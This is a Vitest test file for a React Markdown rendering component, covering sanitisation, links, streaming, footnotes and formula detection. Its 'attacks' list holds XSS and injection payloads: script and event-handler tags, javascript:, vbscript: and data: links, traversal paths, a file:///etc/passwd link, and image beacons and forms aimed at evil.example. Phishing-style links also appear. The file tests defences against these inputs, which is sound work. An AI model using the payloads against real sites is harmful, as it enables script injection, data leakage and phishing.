import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import MarkdownText from './markdown-text.tsx'
import type { TextAuthor } from './text-author.ts'

const render = (text: string, streaming = false, author: TextAuthor = 'agent') =>
  renderToStaticMarkup(<MarkdownText text={text} author={author} streaming={streaming} />)
const renderPerson = (text: string) => render(text, false, 'person')
const renderDocument = (text: string) => render(text, false, 'document')

const authors: TextAuthor[] = ['reader', 'person', 'agent', 'document']
const attacks = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](/api/kam/auth/logout)',
  '[x](file:///etc/passwd)',
  '![x](https://evil.example/?q=journal)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x][y]\n\n[y]: https://evil.example/beacon',
  '<https://evil.example/><style>*{display:none}</style>',
  '[x](https://ok.example "onclick=alert(1)")',
  '<form action=https://evil.example><input name=a></form>',
  '<details open ontoggle=alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '<b onmouseover=alert(1)>x</b> <span style="position:fixed">y</span> <mark id=root class="fixed">z</mark>',
  '<div onclick=alert(1)>\n\nx\n\n</div>',
  '<a href=" javascript:alert(1)">x</a> <a href="java&#10;script:alert(1)">x</a> <a href="&#106;avascript:alert(1)">x</a>',
  '<p><a href="//evil.example">x</a> <a href="/keeper/../api/logout">y</a></p>',
  '[x](/keeper/a/moments?moment=b/../../c) [x](/keeper/a\\..\\b) [x](/keeper//evil.example)',
  '[x](#javascript:alert(1)) [x](#root)',
]

test.for(attacks.flatMap((text) => authors.map((author) => [text, author] as const)))(
  '%s does nothing in text of %s',
  ([text, author]) => {
    for (const streaming of [false, true]) {
      const html = render(text, streaming, author)
      expect(html).not.toMatch(/<(img|script|svg|iframe|style|form|details|object|embed|link|meta)[\s>/]/i)
      expect(html.replace(/>[^<]*</g, '><')).not.toMatch(/javascript:|vbscript:|data:|\son\w+=/i)
      for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:\/\/|mailto:)/)
    }
  },
)

test('too much markup is shown as source, its surroundings as Markdown', () => {
  const html = render(`**Before.**\n\n${'> '.repeat(3000)}deep\n\n**After.**`)
  expect(html).toContain('<strong class="font-semibold">Before.</strong>')
  expect(html).toContain(`<p class="wrap-break-word whitespace-pre-wrap">${'&gt; '.repeat(3000)}deep`)
  expect(html).toContain('<strong class="font-semibold">After.</strong>')
})

test('links open in a new tab without referrer or opener', () => {
  expect(render('[x](https://ok.example)')).toMatch(
    /<a href="https:\/\/ok\.example" target="_blank" rel="noopener noreferrer nofollow ugc"/,
  )
})

test.each([
  ['[your bank](https://evil.example/in)'],
  ['[your bank][1]\n\n[1]: https://evil.example/in'],
  ['[![your bank](https://evil.example/p.png)](https://evil.example/in)'],
  ['<https://bank.com@evil.example/in>'],
  ['| a |\n|---|\n| [x](https://evil.example/in) |'],
])('a link shows its target: %s', (text) => {
  for (const streaming of [false, true])
    expect(render(text, streaming)).toMatch(/<\/a><bdi[^>]*>\(evil\.example\)<\/bdi>/)
})

test('plain addresses and the reader’s own links show no target', () => {
  expect(render('See https://ok.example/guide and www.ok.example')).not.toContain('<bdi')
  expect(
    renderToStaticMarkup(<MarkdownText text="[x](https://ok.example)" author="reader" streaming={false} />),
  ).not.toContain('<bdi')
})

test('HTML is shown as text', () => {
  expect(render('Use <Foo> here')).toContain('Use &lt;Foo&gt; here')
})

test('the caret follows the last word while streaming only', () => {
  expect(render('One.\n\n- two', true)).toMatch(/two<\/span><span aria-hidden="true"[^>]*><\/span><\/li>/)
  expect(render('One.\n\n- two')).not.toContain('aria-hidden="true"')
})

test.each([
  ['paragraphs', 'One two.\n\nThree four', ['Three ', 'four']],
  ['items', '- one two\n- three four', ['three ', 'four']],
  ['rows', '| a | b |\n|---|---|\n| one | two |\n| three | four |', ['three', 'four']],
])('only the last of %s fades in', (_, text, fading) => {
  const fadingWords = [...render(text, true).matchAll(/<span class="animate-word">([^<]*)<\/span>/g)].map(
    ([, word]) => word,
  )
  expect(fadingWords).toEqual(fading)
})

/** The fading words, and the text before the caret. */
function renderEnd(text: string): { fading: string; visibleText: string } {
  const html = render(text, true)
  const fading = [...html.matchAll(/<span class="animate-word">([^<]*)<\/span>/g)].map(([, word]) => word).join('')
  const visibleText = html.slice(0, html.indexOf('<span aria-hidden="true"')).replaceAll(/<[^>]*>/g, '')
  return { fading, visibleText }
}

test('a title does not fade in again with link definitions below it', () => {
  const title = '### Sources\n\n'
  expect(renderEnd(title.trimEnd()).fading).toBe('Sources')
  for (const definition of [
    '[1',
    '[1]:',
    '[1]: h',
    '[1]: https://a.example',
    '[1]: https://a.example\n[2]: https://b.example',
  ])
    expect(renderEnd(`${title}${definition}`).fading).not.toContain('Sources')
})

test('text after a footnote fades in with the caret, not the footnote', () => {
  const { fading, visibleText } = renderEnd('See this.[^1]\n\n[^1]: The note.\n\nAnd now it goes on')
  expect(fading).toBe('And now it goes on')
  expect(visibleText).toMatch(/And now it goes on$/)
  expect(renderEnd('See this.[^1]\n\n[^1]: The note').fading.trim()).toMatch(/^The note/)
})

test('HTML fades in as text', () => {
  expect(renderEnd('Written as\n\n<b>three words').fading).toBe('&lt;b&gt;three words')
})

test('source numbers link to footnotes; other brackets, code and links stay', () => {
  const html = renderToStaticMarkup(
    <MarkdownText
      text={'Sour cream.[2] Or [3] `a[1]` [1](https://ok.example) **so[1][2]**'}
      author="agent"
      streaming={false}
      notes={{ prefix: 'note-m', numbers: [1, 2] }}
    />,
  )
  const marks = [...html.matchAll(/<sup[^>]*><a href="([^"]*)" aria-label="Source (\d)"/g)]
  expect(marks.map(([, href, number]) => ({ href, number }))).toEqual([
    { href: '#note-m-2', number: '2' },
    { href: '#note-m-1', number: '1' },
    { href: '#note-m-2', number: '2' },
  ])
  expect(html).toContain('Or [3] ')
  expect(html).toContain('a[1]</code>')
  expect(html).toMatch(/<a href="https:\/\/ok\.example"[^>]*>1<\/a>/)
  expect(render('Plain [1] text')).not.toContain('<sup')
})

/** Rendered text without tags. */
const renderText = (text: string, streaming = false) => render(text, streaming).replaceAll(/<[^>]*>/g, '')

test('one tilde is text, two strike through', () => {
  expect(renderText('It weighs 5~7 grams, and costs 100~200 euro.')).toBe(
    'It weighs 5~7 grams, and costs 100~200 euro.',
  )
  expect(render('a ~~b~~ c')).toContain('<del>b</del>')
})

test('only <br> breaks the line, even in a cell; other HTML stays text', () => {
  const table = render('| Step | What |\n|---|---|\n| 1 | Wash<br>Dry<br/>Fold<br /> all |')
  expect(table).toContain('Wash<br/>\nDry<br/>\nFold<br/>\nall</td>')
  expect(render('<br>\n\nAfter')).not.toContain('&lt;br')
  expect(renderText('a <br class="x"> <brx> <b>')).toBe('a &lt;br class=&quot;x&quot;&gt; &lt;brx&gt; &lt;b&gt;')
})

test('a line end is a break in messages and a space in documents', () => {
  const verse = 'Roses are *red\nViolets* are blue\n- one\n  two'
  expect(render(verse)).toContain('red<br/>\nViolets')
  expect(render(verse)).toContain('one<br/>\ntwo')
  expect(render('`a\nb` c')).not.toContain('<br')
  expect(renderPerson(verse)).toContain('red<br/>\nViolets')
  const page = renderDocument(verse)
  expect(page).not.toContain('<br')
  expect(page).toContain('red\nViolets')
})

test('setext headings are disabled in messages', () => {
  expect(render('A walk to the pier\n---')).toMatch(/<p[^>]*>A walk to the pier<\/p>\n<hr/)
  expect(renderPerson('A walk to the pier\n---')).toMatch(/<p[^>]*>A walk to the pier<\/p>\n<hr/)
  expect(renderPerson('A walk\n====')).toMatch(/<h3[^>]*>A walk<\/h3>/)
  expect(renderDocument('A walk\n---')).toMatch(/<h3[^>]*>A walk<\/h3>/)
})

test('lists, quotes and tables set their own direction, ignoring inline code', () => {
  expect(render('- שלום')).toMatch(/<ul dir="auto"/)
  expect(render('1. שלום')).toMatch(/<ol dir="auto"/)
  expect(render('> שלום')).toMatch(/<blockquote dir="auto"/)
  expect(render('| א |\n|---|\n| ב |')).toMatch(/<table dir="auto"/)
  expect(render('`npm` שלום')).toMatch(/<code dir="ltr"/)
  expect(render('```\n// שלום\n```')).not.toContain('dir="ltr"')
})

test('backslash brackets stay as written in answers only', () => {
  const text = 'See \\(below\\) and \\[x\\] and \\*this\\*'
  expect(renderText(text)).toBe('See \\(below\\) and \\[x\\] and *this*')
  for (const author of ['person', 'document'] as const)
    expect(render(text, false, author).replaceAll(/<[^>]*>/g, '')).toBe('See (below) and [x] and *this*')
})

const formulas = (text: string) =>
  [...render(text).matchAll(/<span dir="ltr" class="wrap-anywhere[^>]*>([^<]*)<\/span>/g)].map(([, source]) => source)

test.each([
  ['Energy: \\( E = mc^2 \\) and \\[ a_1 * b_2 * c_3 \\]', ['\\( E = mc^2 \\)', '\\[ a_1 * b_2 * c_3 \\]']],
  ['So $x_1$, $y_2$ and $n$th.', ['$x_1$', '$y_2$', '$n$']],
  ['其中$x$是', ['$x$']],
  ['Then $$a^2 + b^2$$ holds', ['$$a^2 + b^2$$']],
  ['Here:\n$$\na\n+ b\n= c\n$$\nAnd on', ['$$\na\n+ b\n= c\n$$']],
  ['\\[\nx\n=\n- y\n\\]', ['\\[\nx\n=\n- y\n\\]']],
  ['1. One\n   $$\n   x^2\n   $$\n2. Two', ['$$\nx^2\n$$']],
  ['> $$\n> x^2\n> $$', ['$$\nx^2\n$$']],
  ['| a |\n|---|\n| $x^2$ |', ['$x^2$']],
  ['$\\text{if all is well } x > 0$', ['$\\text{if all is well } x &gt; 0$']],
  ['$a \\$ b$', ['$a \\$ b$']],
  ['Here $ABC \\cong DEF$, $ab + cd + ef$', ['$ABC \\cong DEF$', '$ab + cd + ef$']],
  ['$速度 = \\frac{s}{t}$', ['$速度 = \\frac{s}{t}$']],
])('%j contains formulas', (text, expected) => {
  expect(formulas(text)).toEqual(expected)
})

test.each([
  'It costs $5 and $6.',
  'Between $5-$10, or $5/$6, or $5–$6.',
  'From $1,000 to 2,000$ a year',
  '月成本 **$148+ → $19**（省 **87%**，年省 ~$1,550）；后续释放老 EIP 可再降到 $15.4/月',
  'From $125K → $108K → $76K. The 200W MA at $60-65K, a close below $65K.',
  'aproximadamente R$ 12,29/metro, R$ 15,83/metro e R$ 18,60/metro',
  '$123 - $234 and **$750 is a lot of money** of $1.23',
  'ROWS($A$1:$A$9) and ROWS($A$1:A1)',
  'US$5 and A$6 are 7$ and 8$',
  '**$5** or **$6**',
  'PATH is $PATH, home is $HOME and $USER$SHELL',
  '$foo=$bar; $a,$b',
  'I paid $5 and others paid for it: $x',
  'One \\$5 and \\$6\\$',
  '`$x$` and `\\(y\\)`',
  'Rated $$ and mine $$$ of $$$$',
  '$ x $ and $$ $$ and \\( \\)',
  '- \\[x\\] done \\[1\\] \\[a note\\]',
  '\\(see the chapter before\\)',
  '$$\n\nx\n\n$$',
  'An open $x and \\(y and \\[z and $$w',
  '[a](https://ok.example/\\(a\\)_$b$)',
  `$${'x'.repeat(5000)}$`,
])('%j contains none', (text) => {
  expect(formulas(text)).toEqual([])
})

test('code with formulas stays code, and formulas ignore Markdown marks', () => {
  expect(render('```\n$$\nx\n$$\n```')).toContain('$$\nx\n$$')
  expect(render('$a_1 * b_2 * c$')).not.toContain('<em')
  expect(render('\\(a [1](b) `c`\\)')).not.toContain('<a')
})

test('growing text shows no partial formulas and holds back little text', () => {
  const texts = ['So $x_1$ is $5x^2$ \\(a\\) and \\[b=c\\].', 'Text\n\n$$\na\n= b\n$$\n\nEnd']
  for (const text of texts)
    for (let end = 1; end <= text.length; end++) {
      const visibleText = renderText(text.slice(0, end), true)
      for (const source of visibleText.replaceAll(/\$\$[^$]+\$\$|\$[^$]+\$|\\\(.*?\\\)|\\\[.*?\\\]/gs, ''))
        expect('$\\', text.slice(0, end)).not.toContain(source)
    }
  for (const source of ['It costs $5 and 6', 'It costs $5. Then', 'My $HOME is where my', '$100 million'])
    expect(renderText(source, true)).toBe(source)
  expect(renderText('It costs $5', true), 'until the next word says which it is').toBe('It costs')
  expect(renderText('```sh\necho $x', true)).toContain('echo $x')
  expect(renderText('Use `a$b` and `$c', true)).toContain('a$b')
})

test('formulas beyond the limit of a text are shown as source', () => {
  expect(formulas('$x^2$ '.repeat(50))).toHaveLength(50)
  const long = `$$${'x + y + '.repeat(480)}z$$`
  expect(formulas(`${long}\n\n`.repeat(7))).toHaveLength(5)
})
